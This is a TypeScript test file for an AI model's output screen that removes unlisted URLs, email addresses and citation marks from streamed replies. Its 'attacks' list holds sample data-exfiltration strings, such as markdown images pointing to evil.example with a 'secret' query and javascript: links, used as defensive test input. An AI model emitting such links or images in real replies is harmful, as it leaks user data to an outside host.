import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { addressesOf, dropAddresses } from '../../server/assistant/addresses.ts';
import { createScreen } from '../../server/assistant/screen.ts';

const isAllowed = addressesOf(
  ['Write to help@shop.example or see https://shop.example/returns and www.shop.example/size-guide?unit=cm.'],
  ['docs.example'],
);

/** Lets `pieces` through and returns what was shown after each, and at the end. */
function screened(pieces: string[]) {
  const screen = createScreen(isAllowed);
  const shown = pieces.map((piece) => screen.push(piece));
  const rest = screen.end();
  return { shown, text: shown.join('') + rest, cited: screen.cited() };
}

const attacks = [
  ['![x](https://evil.example/leak.png?d=secret)', 'x'],
  ['See ![a chart](https://evil.example/p.png) here', 'See a chart here'],
  ['Click [our page](https://evil.example/login) now', 'Click our page now'],
  ['Click [https://evil.example](https://evil.example) now', 'Click now'],
  ['Go to https://evil.example/x?d=secret.', 'Go to .'],
  ['Go to HTTPS://EVIL.example/x now', 'Go to now'],
  ['Go to (https://evil.example/x) now', 'Go to now'],
  ['Go to <https://evil.example/x> now', 'Go to now'],
  ['Go to www.evil.example/x now', 'Go to now'],
  ['Go to evil.com/login now', 'Go to now'],
  ['Go to evil.com now', 'Go to now'],
  ['Mail thief@evil.example now', 'Mail now'],
  ['Mail mailto:thief@evil.example now', 'Mail now'],
  ['Run javascript:alert(1) now', 'Run ) now'],
  ['A https://shop.example@evil.example/ trick', 'A trick'],
  ['A https://shop.example.evil.example/returns trick', 'A trick'],
  ['A https://shop.example/returns?leak=secret trick', 'A trick'],
  ['A [link](javascript:alert(1)) here', 'A link) here'],
] as const;

const harmless = [
  'See https://shop.example/returns.',
  'See [the returns page](https://shop.example/returns) for more.',
  'See **https://docs.example/any/page?x=1**, please',
  'Mail help@shop.example today!',
  'The shop is at shop.example/returns or www.shop.example',
  'It costs 12.50 to 19.99 (incl. tax), e.g. by Node.js v20.1, and/or 24/7.',
  'A note: [see below] and [2024] and a list:\n- one [x]\n- two\n\n1. **bold** `code`',
  'Really?! [yes] wow! [no]',
  'お届けは3〜5日です。返品は30日以内。',
  'Ends in a bracket [',
  'Ends in a link [half](https://shop.exa',
];

describe('what may pass', () => {
  test.each(attacks)('takes the address out of %j', (text, left) => {
    expect(screened([text]).text).toBe(left);
  });

  test.each(attacks)('and shows no more of it when %j comes in letters', (text) => {
    expect(screened([...text]).text).not.toMatch(/evil\.\w|leak|secret|:\/\/|\(1/i);
  });

  test.each(harmless.slice(0, -1))('leaves %j as it is, whole and in letters', (text) => {
    expect(screened([text]).text).toBe(text);
    expect(screened([...text]).text).toBe(text);
  });

  test('shows the label of a link that was never finished', () => {
    expect(screened(['Ends in a link [half](https://shop.exa']).text).toBe('Ends in a link half');
  });

  test('however a text is cut, no address passes that was not in the knowledge', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks.map(([text]) => text)),
      fc.constantFrom(...harmless),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 6 }),
        fc.infiniteStream(fc.integer({ min: 1, max: 9 })),
        (texts, sizes) => {
          const whole = texts.join(' ');
          const pieces: string[] = [];
          for (let at = 0; at < whole.length; ) {
            const size = sizes.next().value as number;
            pieces.push(whole.slice(at, at + size));
            at += size;
          }
          expect(screened(pieces).text).not.toMatch(/evil\.(?:example|com)/i);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('marks of citation', () => {
  test('are taken out and kept in the order of their first mention', () => {
    const { text, cited } = screened(['You have 30 days [2]. Shipping is free [1][2], also abroad [3, 1].']);
    expect(text).toBe('You have 30 days. Shipping is free, also abroad.');
    expect(cited).toEqual([2, 1, 3]);
  });

  test('are taken out in pieces, with the space before them', () => {
    const { text, cited } = screened([
      '30 days',
      ' [',
      '1',
      ']',
      '.',
      ' Free',
      ' [2',
      '] now',
      ' and【3】',
      ' then 【4†source】.',
    ]);
    expect(text).toBe('30 days. Free now and then.');
    expect(cited).toEqual([1, 2, 3, 4]);
  });

  test('at the very end leave nothing behind', () => {
    expect(screened(['It is free [1]']).text.trimEnd()).toBe('It is free');
  });
});

describe('the pace', () => {
  test('plain words pass in the very piece in which they come', () => {
    const pieces = ['You', ' can', ' return', ' it', ' within', ' 30', ' days', ',', ' free', ' of', ' charge'];
    expect(screened(pieces).shown).toEqual(pieces);
  });

  test('only what could become an address waits', () => {
    expect(screened(['See ', 'https', '://shop.example', '/returns', ' now']).shown).toEqual([
      'See',
      ' ',
      '',
      '',
      'https://shop.example/returns now',
    ]);
  });
});

test('a name with a dot is no address', () => {
  const never = () => false;
  for (const text of ['Node.js', 'e.g.', '12.50', 'v2.0.1', 'Mr.Smith', 'and/or', 'file.txt']) {
    expect(dropAddresses(text, never)).toBe(text);
  }
});
